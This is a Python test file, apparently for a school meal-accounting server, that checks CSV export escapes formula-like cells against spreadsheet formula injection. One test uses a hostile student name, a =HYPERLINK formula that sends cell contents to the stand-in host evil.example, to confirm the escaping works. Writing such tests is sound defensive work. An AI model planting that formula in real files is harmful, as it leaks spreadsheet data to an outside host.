"""What the server writes for Excel never runs as a formula: text that starts like one is escaped
with a leading apostrophe, readable as it was; numbers stay numbers."""

from __future__ import annotations

import csv
import io

from server.mismatches import to_csv
from server.tabular import csv_text, excel_safe


def test_formula_like_text_gets_an_apostrophe_and_numbers_stay() -> None:
    assert [excel_safe(v) for v in ("=1+2", "+7 913", "-48,58 ₽", "@SUM(A1)", "\tx", "\rx", "Вера", -4858, 0.5)] == [
        "'=1+2", "'+7 913", "'-48,58 ₽", "'@SUM(A1)", "'\tx", "'\rx", "Вера", -4858, 0.5]


def test_mismatch_csv_escapes_a_hostile_student_name() -> None:
    item = {"day": "2026-12-03", "class_id": "5а", "class_name": "5А", "student_id": "s1",
            "student_name": '=HYPERLINK("http://evil.example/?"&A1;"Иванов")', "meal": "breakfast",
            "kind": "served_twice", "count": 1, "kopecks": -4858, "event_ids": ["e1"]}
    rows = list(csv.reader(io.StringIO(to_csv({"items": [item]})), delimiter=";"))
    assert rows[1][3] == '\'=HYPERLINK("http://evil.example/?"&A1;"Иванов")'
    assert rows[1][7:9] == ["-4858", "'-48,58 ₽"]


def test_csv_text_escapes_the_header_too() -> None:
    assert csv_text(["=cmd"], [["ok"]]) == "'=cmd\r\nok\r\n"
